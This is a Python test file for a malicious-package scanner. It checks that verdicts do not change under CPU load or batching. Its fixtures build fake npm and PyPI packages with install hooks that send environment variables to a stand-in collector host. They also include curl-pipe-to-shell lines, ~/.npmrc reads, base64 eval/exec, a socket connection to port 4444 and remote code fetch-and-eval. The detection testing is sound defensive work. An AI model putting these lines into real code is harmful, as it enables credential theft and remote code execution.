"""Verdicts that do not depend on machine load or on the batch (issue 10 item 4).

The per-file budgets are counted work, the deadline only turns a runaway target into an error,
and each text is scored alone: so the JSON report of a package, timings aside, is the same
byte for byte on an idle machine and on one whose cores are all busy, and its score is the same
alone and in a batch. Nothing here times anything: load is applied, results are compared.
"""

from __future__ import annotations

import base64
import json
import multiprocessing
import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from malseq.intake import IntakeOptions
from malseq.intake.limits import DEFAULT_LIMITS
from malseq.model.infer import SequenceScorer
from malseq.report.json_report import render_json
from malseq.scan import ScanOptions, TargetResult, scan

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
# The wall-clock deadline is only a last resort against runaway targets; these tests compare the
# counted-work results, so they give it room enough for a CI machine that is busy besides the load
# the tests add themselves.
_ROOMY = ScanOptions(intake=IntakeOptions(limits=replace(DEFAULT_LIMITS, time_budget_seconds=3600)))
_TIMING = re.compile(r'^\s*"seconds": [0-9.e-]+,?\n', re.MULTILINE)


def _busy(stop: Any, ready: Any) -> None:
    ready.release()
    while not stop.is_set():
        for _ in range(100_000):
            pass


@contextmanager
def _saturated(processes: int = 2) -> Iterator[None]:
    """`processes` busy loops (one per core of the 2-core CI machine), stopped however the body ends."""
    ctx = multiprocessing.get_context("fork")  # the child runs only the loop above
    stop, ready = ctx.Event(), ctx.Semaphore(0)
    workers = [ctx.Process(target=_busy, args=(stop, ready), daemon=True) for _ in range(processes)]
    try:
        for w in workers:
            w.start()
        for _ in workers:
            assert ready.acquire(timeout=60)
        yield
    finally:
        stop.set()
        for w in workers:
            w.join(timeout=10)
            if w.is_alive():
                w.terminate()
                w.join()


def _json_without_timings(results: Sequence[TargetResult]) -> str:
    text = render_json(results)
    # The only fields allowed to differ are the timings; drop them and the commas they leave.
    return re.sub(r",(\n\s*[}\]])", r"\1", _TIMING.sub("", text))


def _big_npm_package(root: Path) -> Path:
    """A ~2.5 MB one-line minified bundle run at install, with its payload at the very end."""
    pkg = root / "bundle-pkg"
    (pkg / "dist").mkdir(parents=True)
    (pkg / "package.json").write_text(
        '{"name": "bundle-pkg", "version": "1.0.0", "scripts": {"postinstall": "node dist/bundle.min.js"}}')
    chunk = "function a{i}(b,c){{return b.x{i}(c)+'s{i}'+require('m{i}')}}var v{i}=a{i}(1,[2,3,{{k:4}}]);"
    body = "".join(chunk.format(i=i) for i in range(28_000))
    payload = ";require('https').request({host:'collector.example',method:'POST'}).end(JSON.stringify(process.env));"
    (pkg / "dist" / "bundle.min.js").write_text(body + payload)
    assert (pkg / "dist" / "bundle.min.js").stat().st_size > 2_500_000
    return pkg


def _big_pypi_package(root: Path) -> Path:
    """A package whose ~2 MB generated module posts the environment out in its last lines."""
    pkg = root / "genpkg"
    (pkg / "genpkg").mkdir(parents=True)
    (pkg / "setup.py").write_text("from setuptools import setup\nsetup(name='genpkg', version='1.0',"
                                  " packages=['genpkg'])\n")
    (pkg / "genpkg" / "__init__.py").write_text("from genpkg import generated\n")
    body = "".join(f"a{i} = b(c, 'd' + e[1:2], lambda f: f.g(h))\n" for i in range(44_000))
    tail = "import os\nimport requests\nrequests.post('https://collector.example/x', json=dict(os.environ))\n"
    (pkg / "genpkg" / "generated.py").write_text(body + tail)
    return pkg


_SNIPPETS_JS = (
    "const cp = require('child_process'); cp.exec('curl http://203.0.113.7/x | sh');",
    "const https = require('https'); https.get('https://example.org/u?d=' + process.env.HOME);",
    "const fs = require('fs'); fs.readFileSync(require('os').homedir() + '/.npmrc');",
    "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());",
    "module.exports = function add(a, b) { return a + b; };",
)
_SNIPPETS_PY = (
    "import os\nos.system('curl http://203.0.113.7/x | sh')\n",
    "import requests, os\nrequests.post('https://example.org/c', data=dict(os.environ))\n",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n",
    "def add(a, b):\n    return a + b\n",
)


def _small_packages(root: Path, count: int) -> list[Path]:
    """`count` small packages of either ecosystem, each with its own mix of behaviours."""
    out = []
    for i in range(count):
        pkg = root / f"p{i:02d}"
        pkg.mkdir()
        picks = [n for n in range(5) if (i + 1) >> n & 1] or [4]
        if i % 2:
            script = ', "scripts": {"postinstall": "node index.js"}' if i % 3 else ""
            (pkg / "package.json").write_text(f'{{"name": "p{i:02d}", "version": "1.0.{i}"{script}}}')
            (pkg / "index.js").write_text("\n".join(_SNIPPETS_JS[n] for n in picks) + "\n")
        else:
            (pkg / "setup.py").write_text("from setuptools import setup\n" + "".join(_SNIPPETS_PY[n] for n in picks)
                                          + f"setup(name='p{i:02d}', version='1.0.{i}')\n")
        out.append(pkg)
    return out


def _same_idle_and_busy(targets: list[str]) -> list[TargetResult]:
    """Scan `targets` on the machine as it is, then with every core busy; the JSON reports must
    match byte for byte once the timings are dropped. Returns the first run's results."""
    options = _ROOMY
    idle = scan(targets, options)
    with _saturated():
        loaded = scan(targets, options)
    assert all(r.ok and r.score is not None for r in idle), [r.error for r in idle]
    idle_json = _json_without_timings(idle)
    assert '"seconds"' not in idle_json
    json.loads(idle_json)  # still a valid report once the timings are gone
    for a, b in zip(idle, loaded, strict=True):
        assert _json_without_timings([a]) == _json_without_timings([b]), a.target
    assert idle_json == _json_without_timings(loaded)
    return idle


def test_examples_json_is_byte_identical_idle_and_with_every_core_busy() -> None:
    targets = [str(p) for p in sorted(EXAMPLES.iterdir()) if p.is_dir()]
    assert len(targets) >= 3
    _same_idle_and_busy(targets)


def test_multi_megabyte_bundle_json_is_byte_identical_idle_and_with_every_core_busy(tmp_path: Path) -> None:
    (bundle,) = _same_idle_and_busy([str(_big_npm_package(tmp_path))])
    # Cut by its counted budgets, yet the payload at the very end is found.
    assert bundle.analysis is not None
    assert any(f.budget_exhausted for f in bundle.analysis.files)
    assert {"read_env", "network_request"} <= {e.behaviour for e in bundle.analysis.all_events()}


def test_big_generated_python_json_is_byte_identical_idle_and_with_every_core_busy(tmp_path: Path) -> None:
    (generated,) = _same_idle_and_busy([str(_big_pypi_package(tmp_path))])
    assert generated.analysis is not None
    assert any(f.budget_exhausted for f in generated.analysis.files)
    assert {"read_env", "upload_data"} <= {e.behaviour for e in generated.analysis.all_events()}


def test_score_is_the_same_alone_and_in_a_batch_of_fifty(tmp_path: Path) -> None:
    examples = [str(p) for p in sorted(EXAMPLES.iterdir()) if p.is_dir()]
    others = [str(p) for p in _small_packages(tmp_path, 51 - len(examples))]
    batch = scan(examples + others, _ROOMY)
    assert len(batch) == 51 and all(r.ok and r.score is not None for r in batch)
    assert len({r.score for r in batch}) > 5  # the batch really mixes different sequences
    by_target = {r.target: r for r in batch}
    for target in examples + others[::7]:
        (alone,) = scan([target], _ROOMY)
        together = by_target[target]
        assert (alone.score, alone.verdict, alone.component_scores) == \
               (together.score, together.verdict, together.component_scores), target


@pytest.fixture(scope="module")
def model_texts(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    from malseq.model.scoring import score_input

    root = tmp_path_factory.mktemp("texts")
    results = scan([str(p) for p in _small_packages(root, 12)], replace(_ROOMY, score=False))
    texts = [item.text for item in (score_input(r) for r in results) if item is not None]
    assert len(set(texts)) > 5
    return texts


def test_sequence_scores_do_not_depend_on_batch_order_or_threads(model_texts: list[str]) -> None:
    one = SequenceScorer.load(threads=1)
    alone = [one.score([t])[0] for t in model_texts]
    assert one.score(model_texts) == alone
    assert one.score(model_texts[::-1])[::-1] == alone
    assert SequenceScorer.load(threads=2).score(model_texts) == alone


def test_nodes_starting_at_the_same_byte_are_handled_in_one_order() -> None:
    # tree-sitter's captures() lists `a().b().c()`'s calls (all starting at one byte) in an order that
    # changes from run to run; the events of one position must still come out in one order.
    from malseq._deadline import Deadline
    from malseq.features.javascript import analyse_javascript
    from malseq.features.python import analyse_python_text
    from malseq.intake.package import Language, PackageFile

    inner = b'__import__("importlib").import_module("urllib.request").urlopen("https://x.example/r.py").read()'
    py = b"import base64\nexec(base64.b64decode(b'" + base64.b64encode(b"exec(" + inner + b")") + b"'))\n"
    js = (b'require("child_process").exec("curl http://x.example/a | sh").stdout.pipe(process.stdout);'
          b'fetch("https://x.example/?" + process.env.HOME).then(r => r.text()).then(eval);')

    def py_run() -> tuple[object, ...]:
        result = analyse_python_text("m.py", py)
        return result.events, result.calls

    def js_run() -> tuple[object, ...]:
        result = analyse_javascript(PackageFile("m.js", js, Language.JAVASCRIPT, False), Deadline(60))
        return result.events, result.calls

    assert len({py_run() for _ in range(20)}) == 1
    assert len({js_run() for _ in range(20)}) == 1
    events, _calls = py_run()
    assert isinstance(events, tuple)
    assert {"eval_code", "network_request", "import_network_module"} <= {e.behaviour for e in events}
